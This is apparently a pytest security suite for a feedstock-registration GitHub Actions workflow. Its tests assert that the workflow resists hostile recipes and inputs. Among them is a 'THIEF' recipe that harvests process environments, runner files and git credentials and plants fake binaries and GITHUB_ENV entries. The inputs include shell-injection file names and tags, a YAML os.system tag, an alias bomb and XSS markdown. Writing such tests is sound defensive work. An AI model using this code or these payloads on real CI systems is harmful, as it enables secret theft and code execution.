"""Attacks, each carried out: by running the workflow that it is on, or the command that the workflow runs.

``docs/security.md`` holds one line for each with what stops it; a test here holds the two together.
"""

from __future__ import annotations

import http.server
import json
import re
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml

from conftest import Command
from support import actions, events, feedstocks, generated, prefect
from support.events import INJECTION, POISON, poisoned
from support.feedstocks import Feedstock

SECRET = "forge:a-secret-that-nobody-may-see"
COMMANDS = (
    "::add-mask::a\n::stop-commands::b\n::set-output name=forge::/evil\n##[set-output name=forge]/evil\n::error::c"
)
MARKDOWN = "<img src=x onerror=alert(1)> [click](javascript:alert(1)) | a | b | @everyone"


def run(forge: actions.Forge, feedstock: Feedstock, event: tuple[str, Path], url: str, **rest: Any) -> actions.Run:
    """Run the feedstock's register.yml with the organisation's secret."""
    name, payload = event
    given = {"variables": {"PREFECT_API_URL": url}, "secrets": {"PREFECT_API_AUTH_STRING": SECRET}} | rest
    return actions.run(forge, feedstock, "register.yml", name, payload, **given)


OBEYED = {"set-output", "summary", "stop-commands", "ignored"}
"""What a run may have told the runner: its outputs and summaries, and to take no more orders from what is printed."""


def commands(run: actions.Run, *jobs: str) -> set[str]:
    """The workflow commands that the runner met in these jobs; ``ignored`` stands for those that it did not obey."""
    entries = [json.loads(line) for line in run.log.splitlines() if line.startswith("{")]
    return {entry["command"] for entry in entries if "command" in entry and entry["job"].strip().endswith(jobs)}


# --- A feedstock that tries everything at once, registered by its own workflow ---

THIEF = '''
import contextlib, itertools, json, os, pathlib, subprocess

LOOT = pathlib.Path({loot!r})

def environments():
    """This process's environment, and that of every process that led to it."""
    pid, found = os.getpid(), []
    while pid > 1:
        try:
            found.append(pathlib.Path(f"/proc/{{pid}}/environ").read_text(errors="replace"))
            pid = int(pathlib.Path(f"/proc/{{pid}}/stat").read_text().rsplit(")", 1)[1].split()[1])
        except OSError:
            break
    return found

def runner(environments):
    """The runner's own variables, from the process that planned."""
    pairs = [pair.partition("=") for text in environments for pair in text.split("\\0")]
    return {{name: value for name, _, value in pairs if name.startswith(("GITHUB_", "RUNNER_", "HOME"))}}

if not LOOT.exists():  # where it is planned, which comes before it runs
    found = environments()
    job = runner(found)
    folders = [pathlib.Path.cwd(), *(pathlib.Path(job[key]) for key in ("HOME", "RUNNER_TEMP") if key in job)]
    folders += [pathlib.Path(value).parent for name, value in job.items() if name in ("GITHUB_ENV", "GITHUB_OUTPUT")]
    files = {{}}
    for folder in folders:
        # Others work in these folders meanwhile: what vanishes under the thief's hands is not loot.
        reach = (pathlib.Path(root, name) for root, _, names in os.walk(folder) for name in names)
        for path in itertools.islice(reach, 5000):
            with contextlib.suppress(OSError):
                if path.is_file() and path.stat().st_size < 100_000 and ".venv" not in path.parts:
                    files[str(path)] = path.read_text(errors="replace")
    bin = LOOT.with_name("planted")
    bin.mkdir(exist_ok=True)
    for name in ("uv", "git", "python3"):
        planted = bin / name
        planted.write_text(f"#!/bin/sh\\nenv >> {{LOOT}}.{{name}}\\nexit 1\\n")
        planted.chmod(0o755)
    for name, line in {{
        "GITHUB_ENV": "PREFECT_API_URL=http://127.0.0.1:9/api\\nBASH_ENV=/evil",
        "GITHUB_PATH": str(bin),
        "GITHUB_OUTPUT": "forge=/evil",
        "GITHUB_STATE": "x=y",
    }}.items():
        if name in job:
            with open(job[name], "a") as file:
                file.write(line + "\\n")
    credentials = subprocess.run(["git", "config", "--list", "--show-origin"], capture_output=True, text=True).stdout
    LOOT.write_text(json.dumps({{"environments": found, "job": job, "files": files, "git": credentials}}))
    print({commands!r})

def sst(target, mode="complete", prune=False):
    """{markdown}"""
    path = pathlib.Path(target.removeprefix("file://"))
    path.mkdir(parents=True, exist_ok=True)
'''


@pytest.fixture(scope="module")
def heist(
    forge: actions.Forge, server: prefect.Server, worker: prefect.Worker, tmp_path_factory: pytest.TempPathFactory
) -> tuple[actions.Run, Path]:
    """A release of a hostile feedstock, registered and run; the run, and what the recipe could lay its hands on."""
    feedstock = generated.generate(forge, "heist")
    loot = tmp_path_factory.mktemp("loot") / "loot.json"
    recipe = THIEF.format(loot=str(loot), commands=COMMANDS, markdown=MARKDOWN)
    (feedstock.folder / "feedstock/recipe.py").write_text(recipe, encoding="utf-8")
    meta = feedstock.folder / "feedstock/meta.yaml"
    content = yaml.safe_load(meta.read_text(encoding="utf-8"))
    content["title"] = f"{POISON} {MARKDOWN} ::error::x"
    content["description"] = f"{POISON}\n{COMMANDS}"
    content["recipes"] = [{"id": "heist", "object": "recipe:sst"}]
    content["maintainers"][0]["name"] = POISON
    content["provenance"]["providers"][0]["name"] = POISON
    # YAML 1.1 took the key `on` for a boolean.
    meta.write_text(yaml.safe_dump(content).replace("true:", "on:"), encoding="utf-8")
    for name in (
        f"$({INJECTION}).nc",
        f"`{INJECTION}`.nc",
        "--help",
        "-rf",
        "a\n::error::b.nc",
        "uv",
        "git",
        "python3",
    ):
        (feedstock.folder / "feedstock" / name).write_text("")
    # What a job would find if it looked for its tools in the checkout.
    feedstock.write("bakeries/local/bakery.yaml", "work_pool: {name: evil, type: process}\n")
    feedstock.write("uv.toml", 'index-url = "http://127.0.0.1:9/simple"\n')
    feedstock.commit(f"Merge pull request #7 from {POISON}")
    payload = json.loads(feedstock.release("v1.0.0").read_text())
    sender, repository = payload["sender"], payload["repository"]
    payload = poisoned(payload) | {"sender": sender, "repository": repository}
    return run(forge, feedstock, ("release", events.write(payload, loot.parent / "event.json")), server.url), loot


@pytest.fixture(scope="module")
def loot(heist: tuple[actions.Run, Path]) -> dict[str, Any]:
    found: dict[str, Any] = json.loads(heist[1].read_text())
    return found


def test_the_workflow_of_a_hostile_feedstock_ends_like_any_other(heist: tuple[actions.Run, Path]) -> None:
    run, _ = heist
    expected = dict.fromkeys(["Register/Plan", "Register/Register", "Register/Watch"], "success")
    assert run.outcomes == expected, run.said[-3000:]
    assert "deployments: 1 created; runs: 1 started" in run.said


def test_the_thief_could_look(loot: dict[str, Any]) -> None:
    """The attacks below mean something: the recipe did read its job's environment and files."""
    assert loot["job"]["GITHUB_REPOSITORY"] == "pangeo-forge/heist-feedstock"
    assert any(path.endswith("feedstock/meta.yaml") for path in loot["files"])
    assert len(loot["environments"]) >= 3


def test_a_recipe_reads_the_environment_for_the_key(loot: dict[str, Any]) -> None:
    assert SECRET not in loot["environments"][0]
    assert "PREFECT" not in loot["environments"][0]


def test_a_recipe_reads_its_parents_environments_for_the_key(loot: dict[str, Any]) -> None:
    assert SECRET not in json.dumps(loot["environments"])


def test_a_recipe_reads_the_runners_files_for_the_key(loot: dict[str, Any]) -> None:
    assert SECRET not in json.dumps(loot["files"])


def test_a_recipe_reads_the_git_credentials(loot: dict[str, Any]) -> None:
    assert "extraheader" not in loot["git"]
    for path in actions.action_files(actions.ROOT):
        text = path.read_text(encoding="utf-8")
        assert text.count("persist-credentials: false") == len(re.findall(r"uses: actions/checkout@", text)), path


def test_a_recipe_plants_programs_and_variables_for_later_jobs(heist: tuple[actions.Run, Path]) -> None:
    run, loot = heist
    assert {"set-env", "add-path"} <= commands(run, "/Plan")
    assert commands(run, "/Register", "/Watch") <= OBEYED
    assert run.jobs["Register/Register"].outcome == "success"
    for stolen in loot.parent.glob("loot.json.*"):
        assert SECRET not in stolen.read_text()


def test_a_recipe_forges_the_outputs_of_a_step(heist: tuple[actions.Run, Path]) -> None:
    run, _ = heist
    outputs = [step.outputs for job in run.jobs.values() for step in job.steps if "forge" in step.outputs]
    assert len(outputs) >= 3
    assert not [output for output in outputs if "evil" in output["forge"]]


def test_a_recipe_prints_workflow_commands(heist: tuple[actions.Run, Path]) -> None:
    run, _ = heist
    # In its own job it did write to the files that stand for two of them.
    assert commands(run, "/Plan") <= OBEYED | {"set-env", "add-path"}
    assert "::add-mask::" not in run.said


def test_a_feedstock_brings_its_own_bakery_database(heist: tuple[actions.Run, Path], server: prefect.Server) -> None:
    with server.client() as client:
        assert client.work_pool("evil") is None


@pytest.mark.parametrize("where", ["release name", "file name", "meta.yaml", "commit message"])
def test_a_shell_takes_for_code_the(where: str, heist: tuple[actions.Run, Path]) -> None:
    run, _ = heist
    assert not (run.artifacts / "pwned").exists()


def test_a_title_forges_a_summary(heist: tuple[actions.Run, Path]) -> None:
    run, _ = heist
    assert "### Registered `heist` `v1.0.0`" in run.summary
    assert not re.search(r"(?<!\\)(<img|\]\(javascript)", run.summary)


def test_the_key_is_printed(heist: tuple[actions.Run, Path]) -> None:
    run, _ = heist
    for text in (run.log, run.summary, (run.artifacts / "plan/plan.json").read_text()):
        assert SECRET not in text


def test_a_shell_would_have_taken_it_for_code(forge: actions.Forge) -> None:
    """The poison works: a step that pastes it into a script runs it, and one that takes it from ``env`` does not."""
    feedstock = feedstocks.make(forge.server, "poison")
    feedstock.write(
        ".github/workflows/careless.yml",
        """
        on: release
        jobs:
          careful:
            runs-on: ubuntu-latest
            steps:
              - env: {NAME: "${{ github.event.release.name }}"}
                run: echo "$NAME"
          careless:
            runs-on: ubuntu-latest
            steps:
              - run: echo "${{ github.event.release.name }}"
        """,
    )
    feedstock.commit()
    payload = poisoned(json.loads(feedstock.release("v1.0.0").read_text()))
    event = events.write(payload, forge.server / "poisoned.json")
    done = actions.run(forge, feedstock, "careless.yml", "release", event)
    assert done.jobs["careful"].outcome == "success"
    assert (done.artifacts / "pwned").exists()


# --- Other runs of the workflow ---

SWAP = '''
import subprocess, sys
subprocess.Popen([sys.executable, "-c", """
import json, pathlib, time
path, end = pathlib.Path("plan.json"), time.monotonic() + 60
while time.monotonic() < end:
    if path.exists():
        plan = json.loads(path.read_text())
        plan |= {"repository": "pangeo-forge/noaa-oisst-feedstock", "feedstock": "noaa-oisst", "commit": "b" * 40}
        path.write_text(json.dumps(plan))
        break
    time.sleep(0.0005)
"""], start_new_session=True)
def swap(target, mode="complete", prune=False): ...
'''


def test_a_recipe_swaps_the_plan_before_it_is_uploaded(forge: actions.Forge, server: prefect.Server) -> None:
    feedstock = generated.generate(forge, "swap")
    feedstock.write("feedstock/recipe.py", SWAP)
    feedstock.commit()
    done = run(forge, feedstock, ("release", feedstock.release("v1.0.0")), server.url)
    assert json.loads((done.artifacts / "plan/plan.json").read_text())["feedstock"] == "noaa-oisst"
    assert done.outcomes == {"Register/Plan": "success", "Register/Register": "failure"}
    assert "[plan-other-trigger]" in done.said
    with server.client() as client:
        assert client.flows(["noaa-oisst.swap", "swap.swap"]) == {}


def test_a_recipe_fails_with_workflow_commands(forge: actions.Forge) -> None:
    feedstock = generated.generate(forge, "shout")
    feedstock.write("feedstock/recipe.py", f"raise RuntimeError({COMMANDS!r})\n")
    feedstock.commit()
    done = run(forge, feedstock, ("release", feedstock.release("v1.0.0")), "http://127.0.0.1:9/api")
    assert done.outcomes == {"Register/Plan": "failure"}
    assert "[recipe-import-failed]" in done.said
    assert commands(done, "/Plan") <= OBEYED
    assert done.log.count('"command":"stop-commands"') == 1


def test_a_tag_is_a_command(forge: actions.Forge) -> None:
    feedstock = generated.generate(forge, "tag")
    payload = events.release(f"v1$({INJECTION})", feedstock.repository, repository_id=feedstock.repository_id)
    event = events.write(payload, forge.server / "tag.json")
    done = run(forge, feedstock, ("release", event), "http://127.0.0.1:9/api")
    assert done.outcomes == {"Register/Plan": "failure"}
    assert "[event-tag-invalid]" in done.said
    assert not (done.artifacts / "pwned").exists()


def test_a_bakery_takes_its_consent_back_after_the_workflow_was_pinned(
    bakeries: Path, server: prefect.Server, tmp_path: Path
) -> None:
    forge = actions.publish(tmp_path / "server", bakeries)
    feedstock = generated.generate(forge, "revoked")
    described = forge.folder / "bakeries/local/bakery.yaml"
    described.write_text(described.read_text().replace("grants: open", "grants: closed"))
    feedstocks.git(forge.folder, "commit", "--quiet", "--all", "--message", "Close the label")
    done = run(forge, feedstock, ("release", feedstock.release("v1.0.0")), server.url)
    assert done.outcomes == {"Register/Plan": "success", "Register/Register": "failure"}
    assert "[label-closed]" in done.said
    with server.client() as client:
        assert client.flows(["revoked.revoked"]) == {}


# --- What the register job reads: the plan, as the word of a stranger ---


@pytest.fixture(scope="module")
def planned(tmp_path_factory: pytest.TempPathFactory) -> Feedstock:
    """A small feedstock; its plans are written by the tests."""
    return feedstocks.make(tmp_path_factory.mktemp("server"), "planned")


def honest(feedstock: Feedstock) -> dict[str, Any]:
    """The plan that `feedstock plan` makes of the release of the head as v1.0.0."""
    return {
        "format": 1,
        "repository": feedstock.repository,
        "commit": feedstock.head,
        "event": "release",
        "mode": "complete",
        "version": "v1.0.0",
        "feedstock": "planned",
        "dataset_version": "1.0",
        "title": "Sea surface temperature",
        "recipes": [{"id": "sst"}],
        "bakeries": [{"bakery": "local", "label": "dev", "on": ["release", "merge"], "target": "default"}],
    }


PLANS: dict[str, tuple[Any, str]] = {
    "of another repository": ({"repository": "pangeo-forge/noaa-oisst-feedstock"}, "plan-other-trigger"),
    "of another feedstock": ({"feedstock": "noaa-oisst"}, "plan-other-trigger"),
    "of another commit": ({"commit": "b" * 40}, "plan-other-trigger"),
    "of an earlier release": ({"version": "v0.9.0"}, "plan-other-trigger"),
    "of another event": ({"event": "merge", "mode": "update"}, "plan-other-trigger"),
    "that says nothing is to be done": ('{"format": 1, "nothing": "move on"}', "plan-other-trigger"),
    "with fields of its own": ({"pull_steps": [{"run_shell_script": {"script": "id"}}]}, "plan-unreadable"),
    "with an entry point of its own": ({"entrypoint": "os:system"}, "plan-unreadable"),
    "with a recipe that leaves the dataset's folder": ({"recipes": [{"id": "../../other/v1/sst"}]}, "plan-unreadable"),
    "with a version that leaves the dataset's folder": ({"dataset_version": "../../other"}, "plan-unreadable"),
    "with a store that nobody knows": ({"stores": {"sst": "../x"}}, "plan-unreadable"),
    "with a target that nobody described": (
        {"bakeries": [{"bakery": "local", "label": "dev", "on": ["release", "merge"], "target": "s3://evil"}]},
        "plan-other-meta",
    ),
    "with a bakery that is a path": (
        {"bakeries": [{"bakery": "../../evil", "label": "dev", "on": ["release", "merge"], "target": "default"}]},
        "plan-other-meta",
    ),
    "that asks for more than the label allows": (
        {
            "bakeries": [
                {"bakery": "local", "label": "dev", "on": ["release", "merge"], "target": "default", "memory": 2**50}
            ]
        },
        "plan-other-meta",
    ),
    "with two recipes of one dataset": ({"recipes": [{"id": "sst"}, {"id": "SST"}]}, "plan-unreadable"),
    "with a million recipes": ({"recipes": [{"id": f"r{number}"} for number in range(20_000)]}, "plan-unreadable"),
    "that is enlarged": (" " * (17 << 20), "file-too-large"),
    "that is nested without end": ("[" * 200_000, "plan-unreadable"),
    "with a number without end": ('{"format": ' + "9" * 100_000 + "}", "plan-unreadable"),
    "that is not text": (b"\xff\xfe\x00", "file-encoding"),
}


@pytest.mark.parametrize("what", sorted(PLANS))
def test_a_plan(what: str, planned: Feedstock, idle_bakeries: Path, tmp_path: Path, command: Command) -> None:
    change, identity = PLANS[what]
    plan = tmp_path / "plan.json"
    content = json.dumps(honest(planned) | change) if isinstance(change, dict) else change
    plan.write_bytes(content if isinstance(content, bytes) else content.encode())
    event = events.write(events.release("v1.0.0", planned.repository), tmp_path / "event.json")
    job = planned.environment() | {"GITHUB_EVENT_NAME": "release", "GITHUB_EVENT_PATH": str(event)}
    job |= {"PREFECT_API_URL": "http://127.0.0.1:9/api", "PREFECT_API_AUTH_STRING": SECRET}
    done = command("register", plan, "--bakeries", idle_bakeries, "--patience", "0", env=job, code=1)
    assert f"[{identity}]" in done.stderr
    assert "prefect-unreachable" not in done.stderr, "nothing may be asked of Prefect"
    assert SECRET not in done.stdout + done.stderr


def test_an_honest_plan_gets_as_far_as_prefect(
    planned: Feedstock, idle_bakeries: Path, tmp_path: Path, command: Command
) -> None:
    """The plans above are refused for what is wrong with them."""
    plan = tmp_path / "plan.json"
    plan.write_text(json.dumps(honest(planned)))
    event = events.write(events.release("v1.0.0", planned.repository), tmp_path / "event.json")
    job = planned.environment() | {"GITHUB_EVENT_NAME": "release", "GITHUB_EVENT_PATH": str(event)}
    job |= {"PREFECT_API_URL": "http://127.0.0.1:9/api"}
    done = command("register", plan, "--bakeries", idle_bakeries, "--patience", "0", env=job, code=1)
    assert "[prefect-unreachable]" in done.stderr


# --- What the plan job reads: meta.yaml and the event ---

BOMB = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{new}: &{new} [{', '.join([f'*{old}'] * 9)}]\n" for old, new in zip("abcdefghij", "bcdefghijk", strict=True)
)
METAS: dict[str, tuple[Any, str]] = {
    "that builds Python objects": ("id: !!python/object/apply:os.system ['touch pwned']\n", "yaml-"),
    "that is an alias bomb": (BOMB, "yaml-"),
    "that refers to itself": ("id: &a [*a]\n", "yaml-"),
    "that is nested without end": ("id: " + "[" * 50_000, "yaml-"),
    "that is enormous": ("# " + "x" * (3 << 20) + "\n", "file-too-large"),
    "whose object leaves the feedstock": ("object: recipe:sst", "object: ../../../etc/passwd:x"),
    "whose object is a module of Python's": ("object: recipe:sst", "object: os:system"),
    "whose object is an absolute path": ("object: recipe:sst", "object: /etc/passwd:x"),
    "whose recipe id leaves the dataset's folder": ("id: sst, object", "id: ../../other, object"),
    "that takes another feedstock's id": ("id: planned", "id: noaa-oisst"),
}


@pytest.mark.parametrize("what", sorted(METAS))
def test_a_meta_yaml(what: str, tmp_path: Path, command: Command) -> None:
    feedstock = feedstocks.make(tmp_path / "server", "planned", recipes="[{id: sst, object: recipe:sst}]")
    first, second = METAS[what]
    text = (feedstock.folder / "feedstock/meta.yaml").read_text()
    changed = text.replace(first, second, 1)
    if changed == text:
        changed = first
    (feedstock.folder / "feedstock/meta.yaml").write_text(changed)
    feedstock.commit()
    output = tmp_path / "plan.json"
    arguments = ["--event-name", "push", "--event", feedstock.merge(), "-o", output]
    done = command("plan", "-C", feedstock.folder, *arguments, env=feedstock.environment(), code=1)
    assert re.search(r"error\[[a-z0-9-]+\]", done.stderr), done.stderr
    if changed == first:
        assert f"[{second}" in done.stderr
    assert "[internal-error]" not in done.stderr
    assert not output.exists()
    assert not list(tmp_path.rglob("pwned"))


def test_a_link_leads_out_of_the_feedstock(tmp_path: Path, command: Command) -> None:
    feedstock = feedstocks.make(tmp_path / "server", "planned")
    secret = tmp_path / "secret.yaml"
    secret.write_text("token: hunter2\n")
    meta = feedstock.folder / "feedstock/meta.yaml"
    meta.unlink()
    meta.symlink_to(secret)
    feedstock.commit()
    done = command("plan", "-C", feedstock.folder, "--as", "merge", env=feedstock.environment(), code=1)
    assert "[file-outside]" in done.stderr
    assert "hunter2" not in done.stdout + done.stderr


EVENTS: dict[str, tuple[dict[str, Any], str]] = {
    "of another repository": (
        {"repository": {"id": 1, "full_name": "mallory/sst-feedstock"}},
        "event-other-repository",
    ),
    "of a repository that took a name over": (
        {"repository": {"id": 1, "full_name": "pangeo-forge/planned-feedstock"}},
        "event-other-repository",
    ),
    "that is no payload": ({"release": "v1"}, "event-unreadable"),
    "whose tag is an option": ({"release": {"tag_name": "--upload-pack=touch pwned"}}, "event-tag-invalid"),
    "whose tag is a path": ({"release": {"tag_name": "v1/../../main"}}, "event-tag-invalid"),
}


@pytest.mark.parametrize("what", sorted(EVENTS))
def test_an_event(what: str, planned: Feedstock, tmp_path: Path, command: Command) -> None:
    change, identity = EVENTS[what]
    payload = events.release("v1.0.0", planned.repository, repository_id=planned.repository_id) | change
    event = events.write(payload, tmp_path / "event.json")
    job = planned.environment() | {"GITHUB_EVENT_NAME": "release", "GITHUB_EVENT_PATH": str(event)}
    done = command("plan", "-C", planned.folder, "-o", tmp_path / "plan.json", env=job, code=1)
    assert f"[{identity}]" in done.stderr


def test_a_feedstock_brings_its_own_packages(tmp_path: Path, command: Command) -> None:
    feedstock = feedstocks.make(tmp_path / "server", "planned")
    for name in ("feedstock_forge", "yaml", "prefect", "json"):
        feedstock.write(f"{name}.py", f'raise SystemExit("the wrong {name}")\n')
    feedstock.commit()
    # The workflow starts the command by its script, which does not look into the working directory; this is `-m`.
    job = feedstock.environment() | {"PYTHONSAFEPATH": "1"}
    done = command("plan", "--as", "merge", "-o", tmp_path / "plan.json", cwd=feedstock.folder, env=job)
    assert "1 recipe" in done.stdout


def test_planning_beside_the_key_is_refused(planned: Feedstock, tmp_path: Path, command: Command) -> None:
    job = planned.environment() | {"PREFECT_API_KEY": SECRET}
    done = command("plan", "-C", planned.folder, "--as", "merge", "-o", tmp_path / "plan.json", env=job, code=1)
    assert "[plan-secret-in-reach]" in done.stderr
    assert SECRET not in done.stdout + done.stderr


# --- Where the key goes ---


@pytest.fixture
def thief() -> Iterator[tuple[str, list[str]]]:
    """A server that keeps what it is sent, and one before it that sends everybody there."""
    kept: list[str] = []

    class Keep(http.server.BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            kept.append(str(self.headers))
            self.send_response(200)
            self.end_headers()

        do_GET = do_POST  # noqa: N815 - the names are http.server's

        def log_message(self, *arguments: object) -> None:
            pass

    class Send(Keep):
        def do_POST(self) -> None:
            self.send_response(307)
            self.send_header("location", f"http://127.0.0.1:{servers[0].server_port}{self.path}")
            self.send_header("content-length", "0")
            self.end_headers()

        do_GET = do_POST  # noqa: N815 - the names are http.server's

    servers = [http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler) for handler in (Keep, Send)]
    threads = [threading.Thread(target=each.serve_forever, kwargs={"poll_interval": 0.05}) for each in servers]
    for thread in threads:
        thread.start()
    yield f"http://127.0.0.1:{servers[1].server_port}/api", kept
    for each, thread in zip(servers, threads, strict=True):
        each.shutdown()
        each.server_close()
        thread.join()


def test_prefect_sends_the_key_elsewhere(
    thief: tuple[str, list[str]], planned: Feedstock, idle_bakeries: Path, tmp_path: Path, command: Command
) -> None:
    url, kept = thief
    done = _register(planned, idle_bakeries, tmp_path, command, {"PREFECT_API_URL": url})
    assert "[prefect-refused]" in done
    assert kept == []


def test_a_url_with_credentials_is_printed(
    planned: Feedstock, idle_bakeries: Path, tmp_path: Path, command: Command
) -> None:
    done = _register(
        planned, idle_bakeries, tmp_path, command, {"PREFECT_API_URL": "http://forge:hunter2@127.0.0.1:9/api"}
    )
    assert "[prefect-url-missing]" in done
    assert "hunter2" not in done


def _register(feedstock: Feedstock, bakeries: Path, place: Path, command: Command, env: dict[str, str]) -> str:
    plan = place / "plan.json"
    plan.write_text(json.dumps(honest(feedstock)))
    event = events.write(events.release("v1.0.0", feedstock.repository), place / "event.json")
    job = feedstock.environment() | {"GITHUB_EVENT_NAME": "release", "GITHUB_EVENT_PATH": str(event)}
    job |= {"PREFECT_API_AUTH_STRING": SECRET} | env
    done = command("register", plan, "--bakeries", bakeries, "--patience", "0", env=job, code=1)
    assert SECRET not in done.stdout + done.stderr
    return done.stdout + done.stderr
